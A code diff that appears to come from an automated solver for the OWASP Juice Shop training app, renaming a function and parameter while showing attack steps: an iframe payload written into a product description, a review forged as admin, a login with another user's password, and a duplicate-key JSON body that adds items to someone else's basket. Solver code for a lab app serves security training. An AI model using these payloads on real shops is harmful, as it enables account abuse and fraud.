@@ -57,7 +57,7 @@ export async function solveEverything(url: string): Promise<void> {
     registerOddly,
     forgeTokens,
     touchProducts,
-    reviewAndComplain,
+    reviewAndFileComplaint,
     shopOddly,
     attackProfile,
     orderAsPartner,
@@ -206,7 +206,7 @@ async function touchProducts(me: Attacker): Promise<void> {
   await me.put('/api/Products/2', { description: iframePayload })
 }
 
-async function reviewAndComplain(me: Attacker): Promise<void> {
+async function reviewAndFileComplaint(me: Attacker): Promise<void> {
   await me.put('/rest/products/1/reviews', { message: 'x', author: 'admin@juice-sh.op' })
   const { token } = await me.logIn('jim@juice-sh.op', 'ncc-1701')
   const { data } = (await me.get('/rest/products/1/reviews')).json<{ data: { _id: string; author: string }[] }>()
@@ -218,7 +218,7 @@ async function reviewAndComplain(me: Attacker): Promise<void> {
 async function shopOddly(me: Attacker): Promise<void> {
   const { token, bid } = await me.register('shopper@x.y')
   const add = (body: object | string) => me.post('/api/BasketItems', body, { token })
-  const checkOut = (wish = {}) => me.post(`/rest/basket/${bid}/checkout`, wish, { token })
+  const checkOut = (input = {}) => me.post(`/rest/basket/${bid}/checkout`, input, { token })
   await add({ ProductId: 10, BasketId: String(bid), quantity: 1 })
   await checkOut()
   await add(`{"ProductId":14,"BasketId":"${bid}","quantity":1,"BasketId":"1"}`)
